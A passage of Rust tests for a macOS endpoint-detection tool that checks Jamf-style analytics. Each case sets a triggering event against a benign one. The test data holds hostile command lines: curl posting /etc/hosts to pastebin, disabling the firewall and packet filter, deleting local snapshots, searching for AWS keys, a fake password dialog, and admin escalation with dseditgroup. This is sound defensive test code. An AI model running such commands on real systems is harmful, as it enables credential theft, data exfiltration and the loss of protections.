            case(
                "OpenClawInstallation",
                exec(
                    "/opt/homebrew/bin/node",
                    "node",
                    &["node", "/opt/homebrew/bin/npm", "install", "-g", "openclaw@latest"],
                ),
                exec(
                    "/opt/homebrew/bin/node",
                    "node",
                    &["node", "/opt/homebrew/bin/npm", "view", "openclaw"],
                ),
            ),
            case(
                "OpenClawOnboard",
                with_parent(
                    exec(
                        "/opt/homebrew/lib/node_modules/openclaw/bin/openclaw",
                        "openclaw",
                        &["openclaw", "onboard", "--install-daemon"],
                    ),
                    &node,
                ),
                with_parent(
                    exec(
                        "/opt/homebrew/lib/node_modules/openclaw/bin/openclaw",
                        "openclaw",
                        &["openclaw", "status"],
                    ),
                    &node,
                ),
            )
            .table(&shells),
            case(
                "OpenClawSkillsInstallClawhub",
                exec(
                    "/opt/homebrew/bin/node",
                    "node",
                    &["node", "/opt/homebrew/bin/npx", "clawhub@latest", "install", "weather"],
                ),
                exec(
                    "/opt/homebrew/bin/node",
                    "node",
                    &["node", "/opt/homebrew/bin/npx", "clawhub@latest", "search", "weather"],
                ),
            ),
            case(
                "AppleScriptDialogActivity",
                exec(
                    "/usr/bin/osascript",
                    osascript,
                    &["osascript", "-e", "display dialog", "-e", "password"],
                ),
                exec(
                    "/usr/bin/osascript",
                    osascript,
                    &["osascript", "-e", "display dialog", "-e", "Backup finished"],
                ),
            ),
            case(
                "AppleScriptClipboardActivity",
                exec("/usr/bin/osascript", osascript, &["osascript", "-e", "return the clipboard"]),
                exec("/usr/bin/osascript", osascript, &["osascript", "-e", "return the date"]),
            ),
            case(
                "AppleScriptSystemInfoActivity",
                exec("/usr/bin/osascript", osascript, &["osascript", "-e", "system info"]),
                exec(
                    "/usr/bin/osascript",
                    osascript,
                    &["osascript", "-e", "system attribute \"HOME\""],
                ),
            ),
            case(
                "DnsServiceDiscovery",
                exec("/usr/bin/dns-sd", "com.apple.dns-sd", &["dns-sd", "-B", "_ssh._tcp"]),
                exec("/usr/bin/dns-sd", "com.apple.dns-sd", &["dns-sd", "-G", "v4", "nas.local"]),
            ),
            case(
                "ElectronAppCodeInjection",
                exec(
                    "/Applications/Slack.app/Contents/MacOS/Slack",
                    "com.tinyspeck.slackmacgap",
                    &["Slack", "--inspect="],
                ),
                exec(
                    "/Applications/Slack.app/Contents/MacOS/Slack",
                    "com.tinyspeck.slackmacgap",
                    &["Slack", "--enable-logging"],
                ),
            ),
            case(
                "FilevaultAuthRestart",
                exec("/usr/bin/fdesetup", "com.apple.fdesetup", &["fdesetup", "authrestart"]),
                exec("/usr/bin/fdesetup", "com.apple.fdesetup", &["fdesetup", "status"]),
            ),
            case(
                "MdfindSearchAwsKeys",
                exec(
                    "/usr/bin/mdfind",
                    "com.apple.mdfind",
                    &["mdfind", "kMDItemTextContent == '*AKIA*'"],
                ),
                exec(
                    "/usr/bin/mdfind",
                    "com.apple.mdfind",
                    &["mdfind", "kMDItemTextContent == '*invoice*'"],
                ),
            ),
            case(
                "MitmproxyActivity",
                exec("/opt/homebrew/bin/mitmproxy", "mitmproxy", &["mitmproxy", "-p", "8080"]),
                exec("/opt/homebrew/bin/mitmdump", "mitmdump", &["mitmdump", "-p", "8080"]),
            ),
            case(
                "NmapScanActivity",
                exec(
                    "/opt/homebrew/bin/nmap",
                    "nmap",
                    &["nmap", "-sS", "10.0.0.0/24", "-p", "22,80"],
                ),
                exec("/opt/homebrew/bin/nmap", "nmap", &["nmap", "-sS", "10.0.0.5", "-p", "22"]),
            ),
            case(
                "PacketFilterModification",
                exec("/sbin/pfctl", "com.apple.pfctl", &["pfctl", "-d"]),
                exec("/sbin/pfctl", "com.apple.pfctl", &["pfctl", "-s", "rules"]),
            ),
            case(
                "ScpFileCopiedRemoteDestination",
                exec("/usr/bin/scp", "com.apple.scp", &["scp", "f.txt", "bob@host:/tmp/"]),
                exec("/usr/bin/scp", "com.apple.scp", &["scp", "f.txt", "/Volumes/Backup/"]),
            ),
            case(
                "SfltoolActivity",
                exec("/usr/bin/sfltool", "com.apple.sfltool", &["sfltool", "dumpbtm"]),
                exec("/usr/bin/sfltool", "com.apple.sfltool", &["sfltool", "list"]),
            ),
            case(
                "SmartcardIdentityPaired",
                exec(ctkbind_path, ctkbind, &["ctkbind", "-p", "-h", "0A1B", "-u", "alice"]),
                exec(ctkbind_path, ctkbind, &["ctkbind", "-l"]),
            ),
            case(
                "SmartcardIdentityUnpaired",
                exec(ctkbind_path, ctkbind, &["ctkbind", "-r", "-u", "alice"]),
                exec(ctkbind_path, ctkbind, &["ctkbind", "-l"]),
            ),
            case(
                "SmartcardPinChanged",
                exec("/usr/bin/pivpin", pivpin, &["pivpin"]),
                exec("/usr/bin/pivpin", pivpin, &["pivpin", "-v"]),
            ),
            case(
                "SmartcardPinVerified",
                exec("/usr/bin/pivpin", pivpin, &["pivpin", "-v"]),
                exec("/usr/bin/pivpin", pivpin, &["pivpin"]),
            ),
            case(
                "SmbMountedFromCommandline",
                exec("/usr/bin/open", "com.apple.open", &["open", "smb://nas/share"]),
                exec("/usr/bin/open", "com.apple.open", &["open", "afp://nas/share"]),
            ),
            case(
                "Sqlite3Downloads",
                exec(
                    "/usr/bin/sqlite3",
                    sqlite3,
                    &[
                        "sqlite3",
                        "com.apple.LaunchServices.QuarantineEventsV",
                        ".schema",
                        "LSQuarantineEvent",
                    ],
                ),
                exec(
                    "/usr/bin/sqlite3",
                    sqlite3,
                    &["sqlite3", "com.apple.LaunchServices.QuarantineEventsV", ".tables"],
                ),
            ),
            case(
                "Sqlite3Fda",
                exec(
                    "/usr/bin/sqlite3",
                    sqlite3,
                    &["sqlite3", "tcc.db", "kTCCServiceSystemPolicyAllFiles"],
                ),
                exec("/usr/bin/sqlite3", sqlite3, &["sqlite3", "tcc.db", ".tables"]),
            ),
            case(
                "SwiftOnelineCommandExecution",
                exec("/usr/bin/swift", "com.apple.swift", &["swift", "-e", "print(1)"]),
                exec("/usr/bin/swift", "com.apple.swift", &["swift", "--version"]),
            ),
            case(
                "ApplicationFirewallConfigChanges",
                exec(
                    "/usr/libexec/ApplicationFirewall/socketfilterfw",
                    "com.apple.socketfilterfw",
                    &["socketfilterfw", "--setglobalstate", "off"],
                ),
                exec(
                    "/usr/libexec/ApplicationFirewall/socketfilterfw",
                    "com.apple.socketfilterfw",
                    &["socketfilterfw", "--getglobalstate"],
                ),
            ),
            case(
                "SystemsetupActivity",
                exec(
                    "/usr/sbin/systemsetup",
                    "com.apple.systemsetup",
                    &["systemsetup", "setremotelogin", "on"],
                ),
                exec(
                    "/usr/sbin/systemsetup",
                    "com.apple.systemsetup",
                    &["systemsetup", "-getremotelogin"],
                ),
            ),
            case(
                "TmutilActivity",
                exec(
                    "/usr/bin/tmutil",
                    "com.apple.timemachine.tmutil",
                    &["tmutil", "deletelocalsnapshots", "/"],
                ),
                exec(
                    "/usr/bin/tmutil",
                    "com.apple.timemachine.tmutil",
                    &["tmutil", "listlocalsnapshots", "/"],
                ),
            ),
            case(
                "SapPrivilegesElevation",
                target(
                    exec(
                        "/Applications/Privileges.app/Contents/MacOS/PrivilegesCLI",
                        "corp.sap.privileges",
                        &["PrivilegesCLI", "--add"],
                    ),
                    |p| p.team_id = Some("7R5ZEU67FQ".into()),
                ),
                target(
                    exec(
                        "/Applications/Privileges.app/Contents/MacOS/PrivilegesCLI",
                        "corp.sap.privileges",
                        &["PrivilegesCLI", "--add"],
                    ),
                    |p| p.team_id = Some("ABCDE12345".into()),
                ),
            ),
            // Arguments of earlier execs: the acting process of a file event, an exiting
            // process, a parent, a process-group leader.
            case(
                "FileDownloadCurlInsecure",
                testing::create(proc_at(800, "/usr/bin/curl", "com.apple.curl"), "/tmp/payload"),
                testing::create(proc_at(801, "/usr/bin/curl", "com.apple.curl"), "/tmp/payload"),
            )
            .after(vec![
                testing::exec_of(
                    proc_at(800, "/usr/bin/curl", "com.apple.curl"),
                    &["curl", "-k", "-o", "/tmp/payload", "https://x"],
                ),
                testing::exec_of(
                    proc_at(801, "/usr/bin/curl", "com.apple.curl"),
                    &["curl", "-o", "/tmp/payload", "https://x"],
                ),
            ]),
            case(
                "GenericFileCopiedRemoteDestination",
                exited(proc_at(810, "/usr/bin/scp", "com.apple.scp"), 0),
                exited(proc_at(810, "/usr/bin/scp", "com.apple.scp"), 1),
            )
            .after(vec![testing::exec_of(
                proc_at(810, "/usr/bin/scp", "com.apple.scp"),
                &["scp", "f.txt", "bob@host:/tmp/"],
            )]),
            {
                let policy = proc_at(820, "/bin/sh", "com.apple.sh");
                let own = proc_at(821, "/bin/sh", "com.apple.sh");
                let add = &["dseditgroup", "-o", "edit", "-a", "alice", "-t", "user", "admin"];
                case(
                    "UserPrivilegeEscalationByDseditgroupAndSelfService",
                    with_parent(exec("/usr/sbin/dseditgroup", "com.apple.dseditgroup", add), &policy),
                    with_parent(exec("/usr/sbin/dseditgroup", "com.apple.dseditgroup", add), &own),
                )
                .table(&[policy.clone(), own.clone()])
                .after(vec![
                    testing::exec_of(
                        policy.clone(),
                        &["sh", "/Library/Application Support/JAMF/tmp/MakeAdmin.sh"],
                    ),
                    testing::exec_of(own.clone(), &["sh", "/Users/alice/make_admin.sh"]),
                ])
            },
            {
                let ioreg = proc_at(830, "/usr/sbin/ioreg", "com.apple.ioreg");
                let log = proc_at(840, "/usr/bin/log", "com.apple.log");
                let grep = |leader: &Process| {
                    let mut p = proc_at(leader.token.pid + 1, "/usr/bin/grep", "com.apple.grep");
                    p.group_id = leader.token.pid;
                    testing::exec_of(p, &["grep", "CGSSession"])
                };
                case("LockscreenCheck", grep(&ioreg), grep(&log)).after(vec![
                    testing::exec_of(ioreg.clone(), &["ioreg", "-n", "Root", "-d1", "-a"]),
                    testing::exec_of(log.clone(), &["log", "show", "--last", "1h"]),
                ])
            },
            // File events.
            case(
                "ZshenvCreateModify",
                testing::create(vim(), "/Users/alice/.zshenv"),
                testing::create(vim(), "/Users/alice/.zshrc"),
            ),
            case(
                "HostFileModification",
                testing::close_modified(vim(), "/private/etc/hosts"),
                testing::close_modified(vim(), "/private/etc/hosts.bak"),
            ),
            case(
                "AppBundleTrashed",
                testing::rename(
                    by("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder"),
                    "/Applications/Evil.app",
                    "/Users/a/.Trash/Evil.app",
                ),
                testing::rename(
                    testing::process("/usr/bin/mv"),
                    "/Applications/Evil.app",
                    "/Users/a/.Trash/Evil.app",
                ),
            ),
            case(
                "AppBundleInstalled",
                create_dir(testing::process("/usr/bin/ditto"), "/Applications/Tool.app"),
                create_dir(testing::process("/usr/bin/ditto"), "/Users/alice/.Trash/Tool.app"),
            ),
            case(
                "AppBundleFirstOpen",
                create_dir(
                    testing::process("/usr/libexec/installd"),
                    "/Library/InstallerSandboxes/.PKInstallSandboxManager/1.activeSandbox/Root/Applications/Tool.app",
                ),
                create_dir(testing::process("/usr/libexec/installd"), "/Applications/Tool.app"),
            ),
            case(
                "WebappCreated",
                create_dir(
                    by("/System/Library/CoreServices/UIAgent", "com.apple.coreservices.uiagent"),
                    "/Users/alice/Applications/Mail Web.app",
                ),
                create_dir(
                    by("/System/Library/CoreServices/UIAgent", "com.apple.coreservices.uiagent"),
                    "/Users/alice/Applications/Mail Web",
                ),
            ),
            case(
                "OpenClawDirectoryCreated",
                create_dir(node.clone(), "/Users/alice/.openclaw"),
                create_dir(node.clone(), "/Users/alice/src/.openclaw"),
            ),
            // Jamf's managed persistence analytics (not public) tag launchd plists; a
            // stand-in that tags user LaunchAgents runs first.
            case(
                "OpenClawGatewayPersistence",
                testing::create(node.clone(), "/Users/alice/Library/LaunchAgents/ai.openclaw.gateway.plist"),
                testing::create(node.clone(), "/Users/alice/.openclaw/ai.openclaw.gateway.plist"),
            )
            .with_analytic(
                "name: LaunchAgentStandIn\ninputType: GPFSEvent\nlevel: -1\ntags:\n  - LaunchAgent\n\
                 filter: $event.isNewFile == 1 AND $event.path MATCHES \"/Users/[^/]+/Library/LaunchAgents/[^/]+\\\\.plist\"\n",
            ),
            case(
                "AirdropInbound",
                testing::rename(
                    by("/usr/libexec/sharingd", "com.apple.sharingd"),
                    "/private/var/folders/xy/abc/T/com.apple.sharingd/1/photo.jpg",
                    "/Users/alice/Downloads/photo.jpg",
                ),
                testing::rename(
                    by("/usr/libexec/sharingd", "com.apple.sharingd"),
                    "/private/var/folders/xy/abc/T/com.apple.sharingd/1/photo.jpg",
                    "/Users/alice/Library/Sharing/AirDrop/photo.jpg",
                ),
            ),
            case(
                "BleutoothFileExchangeInbound",
                testing::rename(
                    by("/System/Library/CoreServices/OBEXAgent.app/Contents/MacOS/OBEXAgent", "com.apple.OBEXAgent"),
                    "/private/var/folders/xy/abc/T/com.apple.OBEXAgent/TemporaryItems/NSIRD_OBEXAgent_1/f.pdf",
                    "/Users/alice/Downloads/f.pdf",
                ),
                testing::rename(
                    by("/System/Library/CoreServices/OBEXAgent.app/Contents/MacOS/OBEXAgent", "com.apple.OBEXAgent"),
                    "/private/var/folders/xy/abc/C/com.apple.OBEXAgent/f.pdf",
                    "/Users/alice/Downloads/f.pdf",
                ),
            ),
            case(
                "CrashReportCreation",
                testing::create(
                    by("/usr/libexec/ReportCrash", "com.apple.ReportCrash"),
                    "/Users/alice/Library/Logs/DiagnosticReports/Tool-2026-01-01-000000.ips",
                ),
                testing::create(
                    by("/usr/libexec/ReportCrash", "com.apple.ReportCrash"),
                    "/Users/alice/Desktop/Tool-2026-01-01-000000.ips",
                ),
            ),
            case(
                "KernelPanicOccured",
                testing::unlink(testing::process("/usr/libexec/osanalyticshelper"), "/private/var/db/PanicReporter/current.panic"),
                testing::unlink(testing::process("/usr/libexec/osanalyticshelper"), "/private/var/tmp/current.panic"),
            ),
            case(
                "LaunchDaemonDeleted",
                testing::unlink(testing::process("/bin/rm"), "/Library/LaunchDaemons/com.example.helper.plist"),
                testing::unlink(testing::process("/bin/rm"), "/Library/LaunchAgents/com.example.helper.plist"),
            ),
            case(
                "KnownVulnerableLog4jJarInstallation",
                testing::create(
                    testing::process("/usr/bin/unzip"),
                    "/opt/apache-log4j-2.14.1-bin/log4j-core-2.14.1.jar",
                ),
                testing::create(
                    testing::process("/usr/bin/unzip"),
                    "/opt/apache-log4j-2.17.1-bin/log4j-core-2.17.1.jar",
                ),
            ),
            case(
                "ThreatPreventionFileQuarantine",
                testing::create(
                    by("/Library/Application Support/JamfProtect/JamfProtect.app/Contents/MacOS/JamfProtect", "com.jamf.protect.daemon"),
                    "/Library/Application Support/JamfProtect/Quarantine/0f8e8d4c-1a2b-4c3d-9e8f-0123456789ab/payload",
                ),
                testing::create(
                    by("/Library/Application Support/JamfProtect/JamfProtect.app/Contents/MacOS/JamfProtect", "com.jamf.protect.daemon"),
                    "/Library/Application Support/JamfProtect/Quarantine/index.plist",
                ),
            ),
            // Fires on any write of the system Time Machine preferences: ward cannot read
            // the plist, and a missing LastKnownEncryptionState is not "Encrypted".
            case(
                "TimeMachineNotEncrypted",
                testing::close_modified(testing::process("/usr/libexec/cfprefsd"), "/Library/Preferences/com.apple.TimeMachine.plist"),
                testing::close_modified(
                    testing::process("/usr/libexec/cfprefsd"),
                    "/Users/alice/Library/Preferences/com.apple.TimeMachine.plist",
                ),
            ),
        ]
    }

    /// ES gives arguments only on exec; the Jamf process object has them on every event.
    #[test]
    fn arguments_and_group_leader_come_from_earlier_execs() {
        testing::reset();
        let mut images = Images::default();
        let shell = proc_at(600, "/bin/sh", "com.apple.sh");
        testing::add_process(shell.clone());
        images.record(&shell, &["sh".into(), "/tmp/run.sh".into()]);
        let mut scp = proc_at(610, "/usr/bin/scp", "com.apple.scp");
        scp.parent_token = Some(shell.token);
        scp.group_id = 600;
        let args = ["scp", "f", "bob@host:/tmp/"].map(String::from);
        images.record(&scp, &args);

        let (_, exit) = jamf_event(&exited(scp.clone(), 0), &images).unwrap();
        assert_eq!(exit["process"]["args"], json!(args));
        assert_eq!(exit["process"]["commandLine"], "scp f bob@host:/tmp/");
        assert_eq!(exit["process"]["exitCode"], 0);
        assert_eq!(exit["process"]["parent"]["commandLine"], "sh /tmp/run.sh");
        assert_eq!(exit["process"]["pgprocess"]["path"], "/bin/sh");

        let (_, write) =
            jamf_event(&testing::close_modified(scp.clone(), "/tmp/f"), &images).unwrap();
        assert_eq!(write["process"]["args"], json!(args));

        // A process leading its own group is its own `pgprocess`; an unseen leader is nil.
        let (_, own) = jamf_event(&testing::exec_of(shell.clone(), &["sh"]), &images).unwrap();
        assert_eq!(own["process"]["pgprocess"]["path"], "/bin/sh");
        scp.group_id = 999;
        let (_, unseen) = jamf_event(&exited(scp, 0), &images).unwrap();
        assert_eq!(unseen["process"]["pgprocess"], Value::Null);

        // Without the exec, arguments are unknown (empty), as before.
        let stranger = proc_at(620, "/usr/bin/scp", "com.apple.scp");
        let (_, exit) = jamf_event(&exited(stranger, 0), &Images::default()).unwrap();
        assert_eq!(exit["process"]["args"], json!([]));
        testing::reset();
    }

    #[test]
    fn the_detector_remembers_images_until_they_exit_or_exec_again() {
        let mut d = JamfAnalytics::with(Vec::new());
        let first = proc_at(700, "/bin/zsh", "com.apple.zsh");
        testing::deliver(&mut d, &testing::exec_of(first.clone(), &["zsh"])).unwrap();
        assert_eq!(d.images.args(first.token), ["zsh"]);
        // exec_of replaces pidversion - 1: the zsh image is forgotten, the new one kept.
        let mut next = proc_at(700, "/usr/bin/env", "com.apple.env");
        next.token = testing::token(700, first.token.pidversion + 1);
        testing::deliver(&mut d, &testing::exec_of(next.clone(), &["env"])).unwrap();
        assert!(d.images.args(first.token).is_empty());
        assert_eq!(d.images.args(next.token), ["env"]);
        testing::deliver(&mut d, &exited(next.clone(), 0)).unwrap();
        assert!(d.images.is_empty());

        let mut images = Images::default();
        for pid in 0..(MAX_IMAGES as i32 + 10) {
            images.record(&proc_at(pid + 1, "/bin/ls", "com.apple.ls"), &["ls".into()]);
        }
        assert_eq!(images.len(), MAX_IMAGES);
        assert!(
            images.args(testing::token(1, 10)).is_empty(),
            "the oldest go first"
        );
        assert!(images.order.len() <= 2 * MAX_IMAGES);
    }

    #[test]
    fn a_new_app_directory_is_an_app_bundle() {
        let bundle = |event: &Event| {
            jamf_event(event, &Images::default()).unwrap().1["file"]["isAppBundle"].clone()
        };
        let finder =
            || testing::process("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder");
        assert_eq!(bundle(&create_dir(finder(), "/Applications/X.app")), true);
        assert_eq!(bundle(&create_dir(finder(), "/Applications/X.APP")), true);
        assert_eq!(bundle(&create_dir(finder(), "/Applications/X")), false);
        assert_eq!(bundle(&testing::create(finder(), "/tmp/X.app")), false);
        // Other events do not say whether the path is a directory: unknown.
        assert_eq!(
            bundle(&testing::unlink(finder(), "/Applications/X.app")),
            Value::Null
        );
    }

    #[test]
    fn parent_and_responsible_come_from_the_process_table() {
        testing::reset();
        let mut shell = testing::process("/bin/zsh");
        shell.token = testing::token(600, 6000);
        testing::add_process(shell.clone());
        let mut caffeinate = testing::process("/usr/bin/caffeinate");
        caffeinate.signing_id = Some("com.apple.caffeinate".into());
        caffeinate.tty = Some(testing::file("/dev/ttys001"));
        caffeinate.parent_token = Some(shell.token);
        let ev = testing::exec_of(caffeinate.clone(), &["caffeinate", "-d"]);
        assert!(
            fired(&ev)
                .iter()
                .any(|r| r == "CaffeinateOnInteractiveCommandline")
        );
        // Without the parent in the table, `parent.isShell` is nil and the analytic is quiet.
        testing::reset();
        assert!(
            !fired(&ev)
                .iter()
                .any(|r| r == "CaffeinateOnInteractiveCommandline")
        );
    }

    #[test]
    fn remembered_arguments_are_bounded() {
        let mut images = Images::default();
        let p = testing::process("/bin/echo");
        let huge = "x".repeat(100_000);
        let args: Vec<String> = (0..1000).map(|_| huge.clone()).collect();
        images.record(&p, &args);
        let kept = images.args(p.token);
        assert_eq!(kept.len(), MAX_ARGS_BYTES / MAX_REMEMBERED_ARG_BYTES);
        assert!(kept.iter().all(|a| a.len() == MAX_REMEMBERED_ARG_BYTES));
        // Many short arguments: the count binds.
        let short: Vec<String> = (0..1000).map(|i| i.to_string()).collect();
        images.record(&p, &short);
        assert_eq!(images.args(p.token).len(), MAX_REMEMBERED_ARGS);
        // The argument that reaches the total is cut there; none follow.
        let many: Vec<String> = (0..20).map(|_| "a".repeat(4000)).collect();
        let kept = bounded_args(&many);
        let mut expected = vec![4000; 16];
        expected.push(MAX_ARGS_BYTES - 16 * 4000);
        assert_eq!(kept.iter().map(String::len).collect::<Vec<_>>(), expected);
    }

    /// Every key path of the JSON model (objects walked to the leaves), each followed by
    /// the keys analytics put after them (counts, indexing, NSString keys, an unknown key),
    /// and an unknown key at every level.
    fn key_paths(value: &Value, prefix: &[Key], out: &mut Vec<Vec<Key>>) {
        let name = |k: &str| Key::Name(k.to_owned());
        let tails = [
            vec![],
            vec![Key::Count],
            vec![Key::Size],
            vec![Key::First],
            vec![Key::Last],
            vec![Key::Index(1)],
            vec![name("lastPathComponent")],
            vec![name("lastPathComponent"), name("length")],
            vec![name("pathExtension")],
            vec![name("stringByDeletingLastPathComponent")],
            vec![name("lowercaseString")],
            vec![name("nosuchkey")],
            vec![name("nosuchkey"), Key::Count],
        ];
        for tail in &tails {
            out.push([prefix, tail].concat());
        }
        if let Value::Object(map) = value {
            for (key, child) in map {
                key_paths(child, &[prefix, &[name(key)]].concat(), out);
            }
        }
    }

    #[test]
    fn the_typed_model_answers_every_key_path_as_the_json_one() {
        let mut events: Vec<Event> = Vec::new();
        let mut table = Vec::new();
        for c in cases().into_iter().chain(contents_cases()) {
            events.extend(c.history);
            events.push(c.hit);
            events.push(c.miss);
            table.extend(c.table);
        }
        // An app is its own responsible process; a login shell leads its group.
        let mut app = proc_at(900, "/Applications/A.app/Contents/MacOS/A", "com.example.a");
        app.responsible_token = Some(app.token);
        app.parent_token = Some(launchd().token);
        events.push(testing::exec_of(app.clone(), &["A", "--flag"]));
        events.push(testing::close_modified(
            app.clone(),
            "/Users/u/Library/x.plist",
        ));
        events.push(exited(app.clone(), 1));
        table.push(launchd());
        testing::reset();
        for p in table {
            testing::add_process(p);
        }
        let contents = json!({"Label": "x", "Program": ["/bin/sh", "-c"], "nested": {"a": 1}});
        let snapshot = json!({ PLIST_DATA: {"Label": "y"} });
        let mut images = Images::default();
        let (mut paths_checked, mut with_relatives) = (0, 0);
        for event in &events {
            if let EventData::Exec(exec) = &event.data {
                images.forget(event.process.token);
                images.record(&exec.target, &exec.args);
            }
            for relatives in [false, true] {
                for read in [false, true] {
                    let Some((input_type, mut json)) = jamf_event_with(event, &images, relatives)
                    else {
                        assert!(JamfEvent::new(event, &images).is_none());
                        continue;
                    };
                    let mut typed = JamfEvent::new(event, &images).unwrap();
                    assert_eq!(typed.input_type, input_type);
                    // Objects read whole before relatives or contents are attached must
                    // not be answered stale after.
                    for keys in [vec![], vec![Key::Name("process".into())]] {
                        let whole = Operand::Path {
                            var: Some("event".into()),
                            keys,
                        };
                        Predicate::resolve(&whole, &Vars::new(&typed));
                    }
                    let file = Operand::Path {
                        var: Some("file".into()),
                        keys: vec![],
                    };
                    Predicate::resolve(&file, &Vars::new(&typed));
                    if relatives {
                        typed.attach_relatives(&images);
                        with_relatives += 1;
                    }
                    if read && let Some(Value::Object(file)) = json.get_mut("file") {
                        file.insert(CONTENTS.into(), contents.clone());
                        file.insert(SNAPSHOT.into(), snapshot.clone());
                        typed.set_contents(Some(contents.clone()), Some(snapshot.clone()));
                    }
                    let mut paths = Vec::new();
                    key_paths(&json, &[], &mut paths);
                    for keys in paths {
                        for var in ["event", "file"] {
                            let operand = Operand::Path {
                                var: Some(var.into()),
                                keys: keys.clone(),
                            };
                            let want = Predicate::resolve(&operand, &Vars::new(&json));
                            let got = Predicate::resolve(&operand, &Vars::new(&typed));
                            assert_eq!(got, want, "${var}.{keys:?} of {json}");
                            paths_checked += 1;
                        }
                        // A bare key path starts at {event, tags, context}.
                        let bare = Operand::Path {
                            var: None,
                            keys: [&[Key::Name("event".into())], keys.as_slice()].concat(),
                        };
                        assert_eq!(
                            Predicate::resolve(&bare, &Vars::new(&typed)),
                            Predicate::resolve(&bare, &Vars::new(&json)),
                            "{keys:?}"
                        );
                    }
                }
            }
        }
        // The cases hold execs, exits and every file event, with and without relatives
        // known to the process table or remembered.
        assert!(paths_checked > 50_000, "{paths_checked}");
        assert!(with_relatives > 100, "{with_relatives}");
        testing::reset();
    }

    #[test]
    fn relatives_are_built_only_when_an_analytic_that_could_fire_reads_them() {
        let event = exec("/usr/bin/id", "com.apple.id", &["id"]);
        let (_, full) = jamf_event(&event, &Images::default()).unwrap();
        assert!(full["process"].get("parent").is_some());
        let (_, lean) = jamf_event_with(&event, &Images::default(), false).unwrap();
        assert!(lean["process"].get("parent").is_none());
        assert_eq!(lean["process"]["path"], "/usr/bin/id");
        let d = JamfAnalytics::default();
        let gated = |name: &str| {
            let i = d.analytics.iter().position(|a| a.name == name).unwrap();
            d.relative_gates[i].is_some()
        };
        assert!(gated("UserPrivilegeEscalationByDseditgroupAndSelfService"));
        assert!(!gated("KeychainDumped"));

        // One analytic reads the parent in its filter, after a condition on the event's own
        // process; another reads it only in its context.
        testing::reset();
        let mut shell = testing::process("/bin/zsh");
        shell.token = testing::token(600, 6000);
        testing::add_process(shell.clone());
        let filter = "name: ParentIsZsh\nlevel: 0\ninputType: GPProcessEvent\nseverity: Low\n\
                      filter: $event.type == 1 AND $event.process.name == \"sudo\" AND \
                      $event.process.parent.name == \"zsh\"\n";
        let context = "name: CurlParent\nlevel: 0\ninputType: GPProcessEvent\nseverity: Low\n\
                       filter: $event.type == 1 AND $event.process.name == \"curl\"\n\
                       context:\n  - exprs:\n      - event.process.parent.path\n    name: parent\n";
        let mut d = JamfAnalytics::with(vec![
            ward_predicate::parse_analytic(filter).unwrap(),
            ward_predicate::parse_analytic(context).unwrap(),
        ]);
        let child = |path: &str| {
            let mut p = testing::process(path);
            p.token = testing::token(601, 6010);
            p.parent_token = Some(shell.token);
            testing::exec_of(p, &[path])
        };
        let quiet = testing::deliver(&mut d, &child("/usr/bin/id")).unwrap();
        assert!(quiet.is_empty());
        assert_eq!(d.relatives_built, 0, "no analytic could fire: no relatives");
        let sudo = testing::deliver(&mut d, &child("/usr/bin/sudo")).unwrap();
        assert_eq!(sudo.len(), 1);
        assert_eq!(d.relatives_built, 1);
        let curl = testing::deliver(&mut d, &child("/usr/bin/curl")).unwrap();
        assert_eq!(curl.len(), 1);
        assert_eq!(d.relatives_built, 2);
        assert!(
            curl[0]
                .evidence
                .iter()
                .any(|e| e.name == "parent" && e.value == "/bin/zsh"),
            "{:?}",
            curl[0].evidence
        );
    }

    #[test]
    fn admin_analytics_load_beside_or_instead_of_the_corpus() {
        let custom = "name: CustomCurlToPastebin\nlevel: 0\ninputType: GPProcessEvent\nseverity: High\n\
                      filter: $event.type == 1 AND $event.process.name == \"curl\" AND \
                      $event.process.commandLine CONTAINS \"pastebin.com\"\n";
        let broken = "name: Broken\ninputType: GPProcessEvent\nfilter: $event.type ==\n";
        testing::reset();
        testing::set_config(
            ANALYTICS,
            &serde_json::json!({"custom.yaml": custom, "team/broken.yml": broken}).to_string(),
        );
        let mut d = JamfAnalytics::default();
        assert_eq!(d.len(), 78);
        let warned: Vec<String> = testing::logs().into_iter().map(|(_, m)| m).collect();
        assert!(
            warned
                .iter()
                .any(|m| m.starts_with("admin analytic team/broken.yml:3:")),
            "{warned:?}"
        );
        assert!(
            warned
                .iter()
                .any(|m| m == "1 admin analytics loaded, 1 skipped"),
            "{warned:?}"
        );
        let hit = exec(
            "/usr/bin/curl",
            "com.apple.curl",
            &["curl", "-d", "@/etc/hosts", "https://pastebin.com/api"],
        );
        let rules: Vec<String> = testing::deliver(&mut d, &hit)
            .unwrap()
            .into_iter()
            .map(|f| f.rule)
            .collect();
        assert!(
            rules.contains(&"CustomCurlToPastebin".to_owned()),
            "{rules:?}"
        );
        assert!(rules.contains(&"AllCurlActivity".to_owned()), "{rules:?}");
        // Without the corpus only the admin's analytic runs.
        testing::set_config(BUNDLED_KEY, "false");
        let mut d = JamfAnalytics::default();
        assert_eq!(d.len(), 1);
        let rules: Vec<String> = testing::deliver(&mut d, &hit)
            .unwrap()
            .into_iter()
            .map(|f| f.rule)
            .collect();
        assert_eq!(rules, ["CustomCurlToPastebin"]);
        // Not a JSON object: said once, the corpus still loads.
        testing::reset();
        testing::set_config(ANALYTICS, "/etc/ward/analytics");
        assert_eq!(JamfAnalytics::default().len(), 77);
        assert!(
            testing::logs()
                .iter()
                .any(|(l, m)| l == "error" && m.contains("config_dirs"))
        );
        testing::reset();
    }

    #[test]
    fn describe_requests_plist_read_only_with_read_file_contents() {
        testing::reset();
        let info = JamfAnalytics::describe();
        assert!(info.capabilities.is_empty());
        assert!(info.config.iter().any(|o| o.name == READ_FILE_CONTENTS));
        for off in ["false", "", "yes", "1"] {
            testing::set_config(READ_FILE_CONTENTS, off);
            assert!(JamfAnalytics::describe().capabilities.is_empty(), "{off:?}");
        }
        testing::set_config(READ_FILE_CONTENTS, "true");
        assert_eq!(JamfAnalytics::describe().capabilities, vec!["plist-read"]);
        testing::reset();
    }

    /// Which analytics read contents is decided at load; files are read only for events
    /// one of them could fire on, and not at all when the option is off.
    #[test]
    fn files_are_read_only_when_an_analytic_could_need_them() {
        testing::reset();
        let off = JamfAnalytics::with(analytics());
        assert!(off.contents.is_none());

        testing::set_config(READ_FILE_CONTENTS, "true");
        let mut d = JamfAnalytics::with(analytics());
        let contents = d.contents.as_ref().unwrap();
        // Terminal persistency, root user, Time Machine.
        assert_eq!(contents.gates.len(), 3);
        assert!(contents.plist_data);
        let root = "/var/db/dslocal/nodes/Default/users/root.plist";
